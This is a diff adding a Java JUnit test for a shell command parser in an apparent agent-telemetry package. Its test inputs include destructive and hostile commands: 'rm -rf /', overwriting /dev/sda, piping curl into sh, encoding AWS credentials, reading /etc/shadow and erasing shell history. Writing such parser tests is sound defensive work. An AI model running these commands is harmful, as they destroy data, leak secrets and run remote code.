@@ -1,0 +1,77 @@
+package dev.agenttelemetry.shell;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+import java.util.List;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+class ShellParserTest {
+    /** Each command as its wrappers, then its words: "sudo>rm -rf /". */
+    private static List<String> render(String line) {
+        return ShellParser.parse(line).stream()
+                .map(c -> (c.wrappers().isEmpty() ? "" : String.join(">", c.wrappers()) + ">") + String.join(" ", c.words()))
+                .toList();
+    }
+
+    /** Input line ¦ the commands it runs, separated by ‖ (\n in the input is a newline). */
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '¦', quoteCharacter = '^', value = {
+            "cd / && sudo rm -rf --no-preserve-root * ; echo done | tee log ¦ cd /‖sudo rm -rf --no-preserve-root *‖sudo>rm -rf --no-preserve-root *‖echo done‖tee log",
+            "grep \"rm -rf && x\" notes.md || echo 'a; b' ¦ grep rm -rf && x notes.md‖echo a; b",
+            "echo sudo ¦ echo sudo",
+            "echo a\\ b # rm -rf /\\nls -la ¦ echo a b‖ls -la",
+            "echo \"say \\\"hi\\\"\" ¦ echo say \"hi\"",
+            "bash -c 'curl -s http://x | sh' ¦ bash -c curl -s http://x | sh‖bash>curl -s http://x‖bash>sh",
+            "sh -lc \"rm -rf ~\" ¦ sh -lc rm -rf ~‖sh>rm -rf ~",
+            "echo $(whoami) `id -u` ¦ echo $(whoami) `id -u`‖whoami‖id -u",
+            "X=$(cat ~/.aws/credentials | base64) ¦ ‖cat ~/.aws/credentials‖base64",
+            "env -i HOME=/ PATH=/bin sh -c 'id' ¦ env -i HOME=/ PATH=/bin sh -c id‖env>sh -c id‖env>sh>id",
+            "sudo -u root -E nice -n 5 timeout 10 dd of=/dev/sda ¦ sudo -u root -E nice -n 5 timeout 10 dd of=/dev/sda‖sudo>nice -n 5 timeout 10 dd of=/dev/sda‖sudo>nice>timeout 10 dd of=/dev/sda‖sudo>nice>timeout>dd of=/dev/sda",
+            "find . -name '*.tmp' -exec rm -f {} \\; ¦ find . -name *.tmp -exec rm -f {} ;‖find>rm -f {}",
+            "ls | xargs -n 1 rm -rf ¦ ls‖xargs -n 1 rm -rf‖xargs>rm -rf",
+            "(cd /etc && cat shadow) ¦ cd /etc‖cat shadow",
+            "if [ -f x ]; then rm x; fi ¦ [ -f x ]‖rm x",
+            "for f in $(ls /root); do cat $f; done ¦ cat $f‖ls /root",
+            "eval \"rm -rf /\" ¦ eval rm -rf /‖eval>rm -rf /",
+            "su -c 'cat /etc/shadow' root ¦ su -c cat /etc/shadow root‖su>cat /etc/shadow",
+            "cat <<EOF > /tmp/x\\nrm -rf /\\nEOF\\necho ok ¦ cat‖echo ok",
+            "diff <(sort a) <(sort b) ¦ diff <(sort a) <(sort b)‖sort a‖sort b",
+            "command -v rm ¦ command -v rm",
+            "echo \"$(sudo id)\" ¦ echo $(sudo id)‖sudo id‖sudo>id",
+    })
+    void parsesTrickyLines(String line, String expected) {
+        assertThat(render(line.replace("\\n", "\n"))).containsExactly(expected.split("‖", -1));
+    }
+
+    @Test
+    void separatesRedirectionsAndAssignmentsFromWords() {
+        ShellCommand echo = ShellParser.parse("HISTFILE=/dev/null echo 'x' >> ~/.bashrc 2>&1").get(0);
+        assertThat(echo.words()).containsExactly("echo", "x");
+        assertThat(echo.assignments()).containsExactly("HISTFILE=/dev/null");
+        assertThat(echo.redirects()).containsExactly(new ShellCommand.Redirect(">>", "~/.bashrc"), new ShellCommand.Redirect("2>&", "1"));
+        assertThat(echo.redirects().get(0).writes()).isTrue();
+        assertThat(echo.redirects().get(1).writes()).isFalse();
+
+        ShellCommand sysrq = ShellParser.parse("echo 1> /proc/sys/kernel/sysrq").get(0);
+        assertThat(sysrq.words()).containsExactly("echo");
+        assertThat(sysrq.redirects()).containsExactly(new ShellCommand.Redirect("1>", "/proc/sys/kernel/sysrq"));
+
+        assertThat(ShellParser.parse("export HISTSIZE=0").get(0).program()).isEqualTo("export");
+        assertThat(ShellParser.parse("HISTSIZE=0").get(0).assignments()).containsExactly("HISTSIZE=0");
+    }
+
+    @Test
+    void programIsTheBaseName() {
+        assertThat(ShellParser.parse("/usr/bin/sudo /bin/rm -rf /").get(1).program()).isEqualTo("rm");
+    }
+
+    @Test
+    void neverFailsOnBrokenInput() {
+        for (String line : List.of("echo \"unterminated", "echo $(unterminated", "cat <<", "`", "((((", "a >", "\\", "sh -c", "$((1+")) {
+            assertThat(ShellParser.parse(line)).isNotNull();
+        }
+    }
+}
